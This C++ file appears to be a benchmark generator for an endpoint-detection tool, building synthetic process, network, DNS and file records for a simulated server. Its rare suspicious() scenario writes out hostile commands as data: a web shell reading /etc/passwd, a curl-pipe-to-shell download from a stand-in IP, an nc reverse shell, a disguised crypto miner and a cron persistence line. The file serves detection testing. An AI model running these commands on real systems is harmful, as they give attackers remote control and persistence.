#include "bench/event_mix.h"

#include <fcntl.h>
#include <sys/socket.h>

#include <algorithm>
#include <cstring>
#include <functional>
#include <optional>
#include <random>
#include <string>
#include <utility>

#include "common/event.h"
#include "tests/unit/record_builder.h"

namespace yagura::bench {
namespace {

constexpr uint32_t kInitPidNs = 0xeffffffc;  // PROC_PID_INIT_INO: the host's pid namespace
constexpr uint32_t kHostMntNs = 0xf0000000;
constexpr uint64_t kSecond = 1'000'000'000;

using Ip = std::array<uint8_t, 4>;
constexpr Ip kHostIp = {10, 0, 0, 5};
constexpr Ip kLoopback = {127, 0, 0, 1};
constexpr Ip kResolver = {10, 0, 0, 2};

struct Proc {
  yg_task task;
  std::string exe;
};

// A network peer: resolved by name first when `name` is set.
struct Peer {
  const char* name;
  Ip ip;
  uint16_t port;
};

// What an interactive command does besides running.
struct Command {
  const char* exe;
  std::vector<std::string> argv;
  std::optional<Peer> peer = std::nullopt;
  const char* reads = nullptr;  // a watched read (credentials, keys)
  bool setuid = false;          // sudo: a setuid binary that changes creds
};

const std::vector<Command>& interactive_commands() {
  static const std::vector<Command> commands = {
      {"/usr/bin/ls", {"ls", "-la"}},
      {"/usr/bin/git", {"git", "status", "--short"}},
      {"/usr/bin/git",
       {"git", "pull", "--rebase"},
       Peer{"github.com", {140, 82, 121, 4}, 443},
       "/home/alice/.git-credentials"},
      {"/usr/bin/grep", {"grep", "-rn", "TODO", "src/"}},
      {"/usr/bin/cat", {"cat", "config/settings.yaml"}},
      {"/usr/bin/less", {"less", "/var/log/nginx/access.log"}},
      {"/usr/bin/curl",
       {"curl", "-s", "https://api.github.com/repos/yagura-edr/yagura/releases/latest"},
       Peer{"api.github.com", {140, 82, 121, 6}, 443}},
      {"/usr/bin/python3.11",
       {"python3", "manage.py", "migrate", "--noinput"},
       Peer{"db.payments.svc.corp.example", {10, 0, 3, 12}, 5432}},
      {"/usr/bin/kubectl",
       {"kubectl", "get", "pods", "-n", "payments", "-o", "wide"},
       Peer{"k8s-api.corp.example", {10, 0, 1, 10}, 6443},
       "/home/alice/.kube/config"},
      {"/usr/bin/ssh",
       {"ssh", "-A", "build01.corp.example"},
       Peer{"build01.corp.example", {10, 0, 2, 31}, 22},
       "/home/alice/.ssh/id_ed25519"},
      {"/usr/bin/docker",
       {"docker", "ps", "--format", "{{.Names}}"},
       std::nullopt,
       "/home/alice/.docker/config.json"},
      {"/usr/bin/systemctl", {"systemctl", "status", "payments-api"}},
      {"/usr/bin/journalctl", {"journalctl", "-u", "payments-api", "-n", "100", "--no-pager"}},
      {"/usr/bin/ps", {"ps", "aux"}},
      {"/usr/bin/top", {"top", "-b", "-n", "1"}},
      {"/usr/bin/vim.basic", {"vim", "src/payments/views.py"}},
      {"/usr/bin/make", {"make", "test"}},
      {"/usr/bin/find", {"find", ".", "-name", "*.pyc", "-delete"}},
      {"/usr/bin/tail", {"tail", "-n", "50", "/var/log/syslog"}},
      {"/usr/bin/df", {"df", "-h"}},
      {"/usr/bin/sudo",
       {"sudo", "systemctl", "restart", "payments-api"},
       std::nullopt,
       nullptr,
       true},
      {"/usr/bin/apt", {"apt", "list", "--upgradable"}},
      {"/usr/bin/sudo",
       {"sudo", "tcpdump", "-i", "eth0", "-c", "100", "port", "443"},
       std::nullopt,
       nullptr,
       true},
  };
  return commands;
}

// Agents that phone home, and where.
const std::vector<std::pair<const char*, Peer>>& agents() {
  static const std::vector<std::pair<const char*, Peer>> list = {
      {"/opt/datadog-agent/bin/agent/agent", {"intake.datadoghq.eu", {34, 107, 236, 155}, 443}},
      {"/usr/bin/filebeat", {"logstash.corp.example", {10, 0, 5, 20}, 5044}},
      {"/usr/bin/fluent-bit", {"fluentd.corp.example", {10, 0, 5, 21}, 24224}},
      {"/usr/bin/telegraf", {"influxdb.corp.example", {10, 0, 5, 22}, 8086}},
      {"/usr/bin/osqueryd", {"fleet.corp.example", {10, 0, 5, 30}, 443}},
      {"/usr/bin/consul", {nullptr, {10, 0, 0, 11}, 8300}},
      {"/usr/bin/containerd", {"registry-1.docker.io", {54, 236, 113, 205}, 443}},
      {"/usr/sbin/zabbix_agentd", {"zabbix.corp.example", {10, 0, 5, 40}, 10051}},
      {"/usr/lib/apt/methods/http", {"deb.debian.org", {151, 101, 2, 132}, 80}},
  };
  return list;
}

std::string basename(const std::string& path) { return path.substr(path.rfind('/') + 1); }

uint32_t path_hash(const std::string& s) {
  return static_cast<uint32_t>(std::hash<std::string>()(s));
}

class MixBuilder {
 public:
  MixBuilder(size_t records, uint32_t seed) : want_(records), rng_(seed) {}

  EventMix build() {
    start_services();
    const std::vector<std::pair<int, std::function<void()>>> scenarios = {
        {18, [this] { interactive(); }},   {4, [this] { cron_job(); }},
        {22, [this] { agent_traffic(); }}, {8, [this] { scrape(); }},
        {12, [this] { health_probe(); }},  {14, [this] { web_request(); }},
        {10, [this] { team_service(); }},  {1, [this] { package_upgrade(); }},
        {2, [this] { ssh_session(); }},    {1, [this] { suspicious(); }},
    };
    std::vector<int> weights;
    for (const auto& s : scenarios) weights.push_back(s.first);
    std::discrete_distribution<size_t> pick(weights.begin(), weights.end());
    while (!full()) scenarios[pick(rng_)].second();
    return std::move(mix_);
  }

 private:
  bool full() const { return mix_.size() >= want_; }

  uint32_t uniform(uint32_t lo, uint32_t hi) {
    return std::uniform_int_distribution<uint32_t>(lo, hi)(rng_);
  }
  bool chance(double p) { return std::bernoulli_distribution(p)(rng_); }
  template <typename T>
  const T& one_of(const std::vector<T>& items) {
    return items[uniform(0, static_cast<uint32_t>(items.size() - 1))];
  }

  // About 10,000 records a second, a busy server.
  void emit(std::vector<uint8_t> record, uint64_t ktime_ns) {
    if (full()) return;
    size_t offset = (mix_.bytes.size() + 7) & ~size_t{7};
    mix_.bytes.resize(offset);
    mix_.bytes.insert(mix_.bytes.end(), record.begin(), record.end());
    mix_.offsets.push_back(offset);
    mix_.sizes.push_back(record.size());
    mix_.ktime_ns.push_back(ktime_ns);
    ++mix_.by_type[RecordBuilder::type_of(record)];
  }
  uint64_t tick() { return now_ += uniform(20'000, 180'000); }

  static yg_creds creds(uint32_t uid, uint32_t gid) {
    yg_creds c{};
    c.uid = c.euid = c.suid = c.fsuid = uid;
    c.gid = c.egid = c.sgid = c.fsgid = gid;
    c.cap_effective = c.cap_permitted = uid == 0 ? 0x1ffffffffffull : 0;
    return c;
  }

  yg_file exe_file(const std::string& path, uint32_t mode = 0100755) {
    yg_file f{};
    f.ino = 1'000'000 + path_hash(path) % 4'000'000;
    f.dev = (259u << 20) | 1;  // nvme0n1p1
    f.mode = mode;
    f.nlink = 1;
    f.size = 40'000 + path_hash(path) % 4'000'000;
    f.mtime_ns = f.ctime_ns = 1'700'000'000ull * kSecond;
    f.fs_magic = 0xEF53;  // ext4
    return f;
  }

  // The first process: no parent.
  Proc init_process() {
    Proc p;
    p.task = yg_task{};
    p.task.tgid = p.task.tid = 1;
    p.task.start_ns = tick();
    p.task.creds = creds(0, 0);
    p.task.loginuid = p.task.sessionid = kUnsetId;
    p.task.pid_ns = kInitPidNs;
    p.task.mnt_ns = kHostMntNs;
    exec(p, "/usr/lib/systemd/systemd", {"/sbin/init"}, "/", "/init.scope");
    return p;
  }

  // A service systemd starts: fork, then exec as its user in its cgroup.
  Proc service(const std::string& exe, std::vector<std::string> argv, uint32_t uid,
               const std::string& cgroup) {
    Proc p = fork(systemd_);
    p.task.creds = creds(uid, uid);
    p.task.cgroup_id = 5000 + path_hash(cgroup) % 1000;
    exec(p, exe, std::move(argv), "/", cgroup);
    return p;
  }

  void start_services() {
    systemd_ = init_process();
    sshd_ = service("/usr/sbin/sshd", {"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"},
                    0, "/system.slice/ssh.service");
    cron_ = service("/usr/sbin/cron", {"/usr/sbin/cron", "-f"}, 0, "/system.slice/cron.service");
    nginx_ =
        service("/usr/sbin/nginx", {"nginx: worker process"}, 33, "/system.slice/nginx.service");
    php_ = service("/usr/sbin/php-fpm8.2", {"php-fpm: pool www"}, 33,
                   "/system.slice/php8.2-fpm.service");
    exporter_ = service("/usr/bin/prometheus-node-exporter", {"/usr/bin/prometheus-node-exporter"},
                        65534, "/system.slice/prometheus-node-exporter.service");
    kubelet_ =
        service("/usr/bin/kubelet", {"/usr/bin/kubelet", "--config=/var/lib/kubelet/config.yaml"},
                0, "/system.slice/kubelet.service");
    api_ = service("/opt/payments/api/bin/payments-api",
                   {"/opt/payments/api/bin/payments-api", "--config", "/etc/payments/api.toml"},
                   1001, "/system.slice/payments-api.service");
    for (const auto& [exe, peer] : agents())
      agent_procs_.push_back(service(exe, {exe}, 0, "/system.slice/" + basename(exe) + ".service"));
    // alice's interactive session: sshd -> sshd (privsep) -> bash.
    Proc session = fork(sshd_);
    exec(session, "/usr/sbin/sshd", {"sshd: alice [priv]"}, "/", "/system.slice/ssh.service");
    login_shell_ = login(session, 1000, 3, "pts0");
  }

  // The user's shell under an sshd session.
  Proc login(const Proc& session, uint32_t uid, uint32_t sessionid, const char* tty) {
    Proc shell = fork(session);
    shell.task.creds = creds(uid, uid);
    shell.task.loginuid = uid;
    shell.task.sessionid = sessionid;
    shell.task.tty_major = 136;
    shell.task.tty_minor = tty[3] - '0';
    RecordBuilder::set_chars(shell.task.tty, tty);
    exec(shell, "/usr/bin/bash", {"-bash"}, "/home/alice",
         "/user.slice/user-1000.slice/session-" + std::to_string(sessionid) + ".scope");
    return shell;
  }

  // ---- Process records ----

  Proc fork(const Proc& parent) {
    Proc child = parent;
    child.task.tgid = child.task.tid = next_pid_++;
    child.task.start_ns = tick();
    child.task.ppid = parent.task.tgid;
    child.task.parent_start_ns = parent.task.start_ns;
    emit(RecordBuilder::fork(child.task, child.task.start_ns), child.task.start_ns);
    return child;
  }

  // filename: as given to execve (the script for scripts, then exe is the
  // interpreter); empty: the exe.
  void exec(Proc& p, const std::string& exe, std::vector<std::string> argv, const std::string& cwd,
            const std::string& cgroup, const std::string& filename = "",
            const std::string& interpreter = "") {
    const std::string& given = filename.empty() ? exe : filename;
    RecordBuilder::set_chars(p.task.comm, basename(given).substr(0, YG_COMM_LEN - 1));
    p.exe = exe;
    yg_exec x = RecordBuilder::exec_fixed(0);
    x.hdr.ktime_ns = tick();
    x.task = p.task;
    x.exe = exe_file(exe, exe == "/usr/bin/sudo" ? 0104755 : 0100755);
    x.old_tid = p.task.tid;
    x.argc = static_cast<uint32_t>(argv.size());
    ExecStrings s;
    s[YG_EXEC_STR_EXE] = exe;
    s[YG_EXEC_STR_FILENAME] = given;
    s[YG_EXEC_STR_INTERP] = interpreter;
    s[YG_EXEC_STR_CWD] = cwd;
    s[YG_EXEC_STR_CGROUP] = cgroup;
    s[YG_EXEC_STR_ARGS] = RecordBuilder::nul_joined(argv);
    x.args_size = static_cast<uint32_t>(s[YG_EXEC_STR_ARGS].size());
    x.env_size = 1800 + uniform(0, 600);
    x.flags = YG_EXEC_ENV_SCANNED | (interpreter.empty() ? 0 : YG_EXEC_SCRIPT);
    emit(RecordBuilder::exec(x, s), x.hdr.ktime_ns);
  }

  void exit(const Proc& p, uint32_t code = 0) {
    uint64_t t = tick();
    emit(RecordBuilder::exit(p.task, code << 8, t), t);
  }

  // sudo: the setuid binary's creds change to root's.
  void become_root(Proc& p) {
    yg_creds old = p.task.creds;
    p.task.creds.euid = p.task.creds.suid = p.task.creds.fsuid = 0;
    uint64_t t = tick();
    emit(RecordBuilder::cred(p.task, old, YG_CRED_SETRESUID, t), t);
    p.task.creds = creds(0, 0);
    t = tick();
    emit(RecordBuilder::cred(p.task, old, YG_CRED_SETRESUID, t), t);
  }

  // ---- Network records ----

  // As an owner-only record carries it: key, tid and comm.
  static yg_task owner_only(const yg_task& full) {
    yg_task t{};
    t.tgid = full.tgid;
    t.tid = full.tid;
    t.start_ns = full.start_ns;
    std::memcpy(t.comm, full.comm, sizeof(t.comm));
    return t;
  }

  yg_net net_record(const Proc& p, uint32_t action, Ip local, uint16_t local_port, Ip remote,
                    uint16_t remote_port, bool owner_only_task) {
    yg_net n = RecordBuilder::net_fixed(0, action);
    n.hdr.ktime_ns = tick();
    n.hdr.flags = owner_only_task ? YG_HDR_OWNER_ONLY : 0;
    n.task = owner_only_task ? owner_only(p.task) : p.task;
    n.local = RecordBuilder::ipv4(local[0], local[1], local[2], local[3], local_port);
    n.remote = RecordBuilder::ipv4(remote[0], remote[1], remote[2], remote[3], remote_port);
    n.flags = remote[0] == 127 ? YG_NET_LOOPBACK : 0;
    return n;
  }

  uint16_t ephemeral_port() { return next_port_ = next_port_ >= 60999 ? 32768 : next_port_ + 1; }

  // A TCP connection this process makes: connect, then close (both owner-only,
  // finished in softirq), with a DNS lookup first if the peer has a name.
  void connect_and_close(const Proc& p, const Peer& peer) {
    if (peer.name && chance(0.5)) resolve(p, peer.name, peer.ip);
    const Ip local = peer.ip[0] == 127 ? kLoopback : kHostIp;
    const uint16_t port = ephemeral_port();
    yg_net c = net_record(p, YG_NET_CONNECT, local, port, peer.ip, peer.port, true);
    emit(RecordBuilder::net(c), c.hdr.ktime_ns);
    yg_net x = net_record(p, YG_NET_CLOSE, local, port, peer.ip, peer.port, true);
    x.duration_ns = uniform(1'000'000, 900'000'000);
    x.bytes_sent = uniform(200, 40'000);
    x.bytes_received = uniform(200, 400'000);
    emit(RecordBuilder::net(x), x.hdr.ktime_ns);
  }

  // An inbound TCP connection: accept in the process, close owner-only.
  void accept_and_close(const Proc& p, Ip client, uint16_t local_port) {
    const uint16_t client_port = static_cast<uint16_t>(uniform(32768, 60999));
    const Ip local = client[0] == 127 ? kLoopback : kHostIp;
    yg_net a = net_record(p, YG_NET_ACCEPT, local, local_port, client, client_port, false);
    a.flags |= YG_NET_INBOUND;
    emit(RecordBuilder::net(a), a.hdr.ktime_ns);
    yg_net x = net_record(p, YG_NET_CLOSE, local, local_port, client, client_port, true);
    x.flags |= YG_NET_INBOUND;
    x.duration_ns = uniform(100'000, 50'000'000);
    x.bytes_sent = uniform(500, 200'000);
    x.bytes_received = uniform(200, 4'000);
    emit(RecordBuilder::net(x), x.hdr.ktime_ns);
  }

  // The query's first datagram (udp_send), the query, and the answer
  // (owner-only: it arrives in softirq).
  void resolve(const Proc& p, const std::string& name, Ip ip) {
    const uint16_t port = ephemeral_port();
    yg_net udp = net_record(p, YG_NET_UDP_SEND, kHostIp, port, kResolver, 53, false);
    udp.protocol = 17;
    emit(RecordBuilder::net(udp), udp.hdr.ktime_ns);
    const uint16_t id = static_cast<uint16_t>(uniform(0, 65535));
    for (uint32_t direction : {YG_DNS_QUERY, YG_DNS_ANSWER}) {
      const bool answer = direction == YG_DNS_ANSWER;
      yg_dns d = RecordBuilder::dns_fixed(0, direction, dns_message(id, name, answer, ip));
      d.hdr.ktime_ns = tick();
      d.hdr.flags = answer ? YG_HDR_OWNER_ONLY : 0;
      d.task = answer ? owner_only(p.task) : p.task;
      d.local = RecordBuilder::ipv4(kHostIp[0], kHostIp[1], kHostIp[2], kHostIp[3], port);
      d.remote = RecordBuilder::ipv4(kResolver[0], kResolver[1], kResolver[2], kResolver[3], 53);
      emit(RecordBuilder::dns(d), d.hdr.ktime_ns);
    }
  }

  // A query for name's A record, or its answer (one address, TTL 300).
  static std::string dns_message(uint16_t id, const std::string& name, bool answer, Ip ip) {
    std::string m;
    auto u16 = [&m](uint16_t v) {
      m += static_cast<char>(v >> 8);
      m += static_cast<char>(v & 0xff);
    };
    u16(id);
    u16(answer ? 0x8180 : 0x0100);  // response + RD + RA, or query + RD
    u16(1);
    u16(answer ? 1 : 0);
    u16(0);
    u16(0);
    size_t start = 0;
    while (start < name.size()) {
      size_t dot = std::min(name.find('.', start), name.size());
      m += static_cast<char>(dot - start);
      m.append(name, start, dot - start);
      start = dot + 1;
    }
    m += '\0';
    u16(1);  // A
    u16(1);  // IN
    if (!answer) return m;
    u16(0xc00c);  // the question's name
    u16(1);
    u16(1);
    u16(0);
    u16(300);
    u16(4);
    m.append(reinterpret_cast<const char*>(ip.data()), ip.size());
    return m;
  }

  // ---- File records ----

  yg_file_event file_record(const Proc& p, uint32_t op, const std::string& path) {
    yg_file_event f = RecordBuilder::file_event_fixed(0, op);
    f.hdr.ktime_ns = tick();
    f.task = p.task;
    f.file = exe_file(path, 0100644);
    f.file.uid = p.task.creds.uid;
    f.flags = YG_FOP_HAS_FILE;
    return f;
  }

  void write_file(const Proc& p, const std::string& path, bool created) {
    yg_file_event f = file_record(p, YG_FOP_OPEN, path);
    f.flags |= YG_FOP_WRITE | (created ? YG_FOP_CREATED | YG_FOP_TRUNC : 0);
    f.open_flags = O_WRONLY | (created ? O_CREAT | O_TRUNC : O_APPEND);
    f.mode = 0644;
    f.fd = 3;
    emit(RecordBuilder::file_event(f, {path, ""}), f.hdr.ktime_ns);
  }

  void rename_file(const Proc& p, const std::string& from, const std::string& to) {
    yg_file_event f = file_record(p, YG_FOP_RENAME, to);
    emit(RecordBuilder::file_event(f, {to, from}), f.hdr.ktime_ns);
  }

  void read_watched(const Proc& p, const std::string& path) {
    yg_file_event f = file_record(p, YG_FOP_OPEN, path);
    f.flags |= YG_FOP_READ | YG_FOP_WATCHED_READ;
    f.open_flags = O_RDONLY | O_CLOEXEC;
    f.fd = 4;
    emit(RecordBuilder::file_event(f, {path, ""}), f.hdr.ktime_ns);
  }

  // ---- Scenarios ----

  void run_command(const Proc& shell, const Command& c, const std::string& cwd) {
    Proc p = fork(shell);
    exec(p, c.exe, c.argv, cwd, "/user.slice/user-1000.slice/session-3.scope");
    if (c.setuid) {
      become_root(p);
      // sudo runs the command as its child.
      Proc cmd = fork(p);
      std::vector<std::string> argv(c.argv.begin() + 1, c.argv.end());
      exec(cmd, "/usr/bin/" + argv[0], argv, cwd, "/user.slice/user-1000.slice/session-3.scope");
      exit(cmd);
    }
    if (c.reads) read_watched(p, c.reads);
    if (c.peer) connect_and_close(p, *c.peer);
    exit(p, chance(0.9) ? 0 : 1);
  }

  void interactive() {
    run_command(login_shell_, one_of(interactive_commands()), "/home/alice/src/payments-api");
  }

  // cron -> sh -c job -> the job's programs.
  void cron_job() {
    Proc runner = fork(cron_);
    const char* cg = "/system.slice/cron.service";
    switch (uniform(0, 2)) {
      case 0: {
        exec(runner, "/usr/bin/dash", {"/bin/sh", "-c", "/usr/local/bin/backup.sh >/dev/null 2>&1"},
             "/root", cg, "/bin/sh");
        Proc job = fork(runner);
        exec(job, "/usr/bin/bash", {"/bin/bash", "/usr/local/bin/backup.sh"}, "/root", cg,
             "/usr/local/bin/backup.sh", "/bin/bash");
        Proc rsync = fork(job);
        exec(rsync, "/usr/bin/rsync",
             {"rsync", "-a", "--delete", "/var/backups/", "backup.corp.example::hosts/web-07/"},
             "/root", cg);
        connect_and_close(rsync, {"backup.corp.example", {10, 0, 9, 20}, 873});
        exit(rsync);
        exit(job);
        break;
      }
      case 1:
        exec(runner, "/usr/bin/dash",
             {"/bin/sh", "-c",
              "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then "
              "/usr/lib/php/sessionclean; fi"},
             "/root", cg, "/bin/sh");
        break;
      default: {
        exec(runner, "/usr/bin/dash",
             {"/bin/sh", "-c", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"}, "/root", cg,
             "/bin/sh");
        Proc sa = fork(runner);
        exec(sa, "/usr/lib/sysstat/sadc",
             {"/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"},
             "/root", cg);
        exit(sa);
      }
    }
    exit(runner);
  }

  void agent_traffic() {
    size_t i = uniform(0, static_cast<uint32_t>(agents().size() - 1));
    const Peer& peer = agents()[i].second;
    connect_and_close(agent_procs_[i], peer);
  }

  // Prometheus scrapes the node exporter.
  void scrape() { accept_and_close(exporter_, {10, 0, 0, 9}, 9100); }

  // kubelet -> curl on loopback.
  void health_probe() {
    static const std::vector<uint16_t> ports = {8080, 8081, 8082, 9090};
    const uint16_t port = one_of(ports);
    Proc curl = fork(kubelet_);
    exec(curl, "/usr/bin/curl",
         {"curl", "-fsS", "--max-time", "2",
          "http://127.0.0.1:" + std::to_string(port) + "/healthz"},
         "/", "/system.slice/kubelet.service");
    connect_and_close(curl, {nullptr, kLoopback, port});
    exit(curl);
    if (chance(0.3)) connect_and_close(kubelet_, {"k8s-api.corp.example", {10, 0, 1, 10}, 6443});
  }

  // A client hits nginx, which asks php-fpm, which asks the database.
  void web_request() {
    const Ip client = {static_cast<uint8_t>(uniform(11, 126)),
                       static_cast<uint8_t>(uniform(0, 255)), static_cast<uint8_t>(uniform(0, 255)),
                       static_cast<uint8_t>(uniform(1, 254))};
    accept_and_close(nginx_, client, 443);
    accept_and_close(php_, kLoopback, 9000);
    connect_and_close(php_, {nullptr, kLoopback, 3306});
  }

  // The team's own service: its database, its worker.
  void team_service() {
    connect_and_close(api_, {"db.payments.svc.corp.example", {10, 0, 3, 12}, 5432});
    if (chance(0.2)) {
      Proc worker = fork(api_);
      exec(worker, "/opt/payments/api/bin/payments-worker",
           {"/opt/payments/api/bin/payments-worker", "--queue", "settlements"}, "/",
           "/system.slice/payments-api.service");
      connect_and_close(worker, {"queue.payments.svc.corp.example", {10, 0, 3, 15}, 5672});
      exit(worker);
    }
  }

  // unattended-upgrade -> dpkg replacing a library and a binary.
  void package_upgrade() {
    Proc apt = service("/usr/bin/python3.11",
                       {"/usr/bin/python3", "/usr/bin/unattended-upgrade", "--mode=oneshot"}, 0,
                       "/system.slice/unattended-upgrades.service");
    Proc dpkg = fork(apt);
    exec(dpkg, "/usr/bin/dpkg",
         {"/usr/bin/dpkg", "--status-fd", "10", "--unpack", "--auto-deconfigure",
          "/var/cache/apt/archives/libcurl4_7.88.1-10+deb12u8_amd64.deb"},
         "/", "/system.slice/unattended-upgrades.service");
    for (const char* path : {"/usr/lib/x86_64-linux-gnu/libcurl.so.4.8.0", "/usr/bin/curl"}) {
      const std::string tmp = std::string(path) + ".dpkg-new";
      write_file(dpkg, tmp, true);
      rename_file(dpkg, tmp, path);
    }
    exit(dpkg);
    exit(apt);
  }

  // A new login: PAM reads the shadow file, a few commands, history saved.
  void ssh_session() {
    accept_and_close(sshd_, {10, 0, 0, 200}, 22);
    Proc session = fork(sshd_);
    exec(session, "/usr/sbin/sshd", {"sshd: alice [priv]"}, "/", "/system.slice/ssh.service");
    read_watched(session, "/etc/shadow");
    Proc shell = login(session, 1000, 4 + next_session_++, "pts1");
    for (int i = 0; i < 3; ++i) run_command(shell, one_of(interactive_commands()), "/home/alice");
    write_file(shell, "/home/alice/.bash_history", false);
    exit(shell);
    exit(session);
  }

  // What the default and Sigma rules are there for: rare.
  void suspicious() {
    const char* cg = "/user.slice/user-1000.slice/session-3.scope";
    switch (uniform(0, 4)) {
      case 0: {  // a web shell
        Proc sh = fork(php_);
        exec(sh, "/usr/bin/dash", {"sh", "-c", "id; uname -a; cat /etc/passwd"}, "/var/www/html",
             "/system.slice/php8.2-fpm.service", "/bin/sh");
        Proc id = fork(sh);
        exec(id, "/usr/bin/id", {"id"}, "/var/www/html", "/system.slice/php8.2-fpm.service");
        exit(id);
        exit(sh);
        break;
      }
      case 1: {  // download and run
        Proc sh = fork(login_shell_);
        exec(sh, "/usr/bin/bash", {"bash", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"}, "/tmp",
             cg);
        Proc curl = fork(sh);
        exec(curl, "/usr/bin/curl", {"curl", "-fsSL", "http://203.0.113.7/x.sh"}, "/tmp", cg);
        connect_and_close(curl, {nullptr, {203, 0, 113, 7}, 80});
        exit(curl);
        exit(sh);
        break;
      }
      case 2: {  // a reverse shell
        Proc nc = fork(login_shell_);
        exec(nc, "/usr/bin/nc.traditional", {"nc", "-e", "/bin/sh", "203.0.113.7", "4444"}, "/tmp",
             cg, "/usr/bin/nc");
        connect_and_close(nc, {nullptr, {203, 0, 113, 7}, 4444});
        exit(nc);
        break;
      }
      case 3: {  // a miner dropped in /tmp
        Proc miner = fork(login_shell_);
        exec(miner, "/tmp/.cache/kworkerd", {"[kworker/0:2]", "-o", "pool.supportxmr.com:3333"},
             "/tmp", cg);
        connect_and_close(miner, {"pool.supportxmr.com", {94, 130, 12, 30}, 3333});
        exit(miner, 9);
        break;
      }
      default: {  // persistence through cron
        Proc sh = fork(login_shell_);
        exec(sh, "/usr/bin/bash",
             {"bash", "-c", "echo '* * * * * root /tmp/.x' > /etc/cron.d/sysupdate"}, "/root", cg);
        write_file(sh, "/etc/cron.d/sysupdate", true);
        exit(sh);
      }
    }
  }

  size_t want_;
  std::mt19937 rng_;
  EventMix mix_;
  uint64_t now_ = 3600 * kSecond;  // an hour after boot
  uint32_t next_pid_ = 400;
  uint16_t next_port_ = 40000;
  uint32_t next_session_ = 0;
  Proc systemd_, sshd_, cron_, nginx_, php_, exporter_, kubelet_, api_, login_shell_;
  std::vector<Proc> agent_procs_;
};

}  // namespace

EventMix make_event_mix(size_t records, uint32_t seed) { return MixBuilder(records, seed).build(); }

}  // namespace yagura::bench
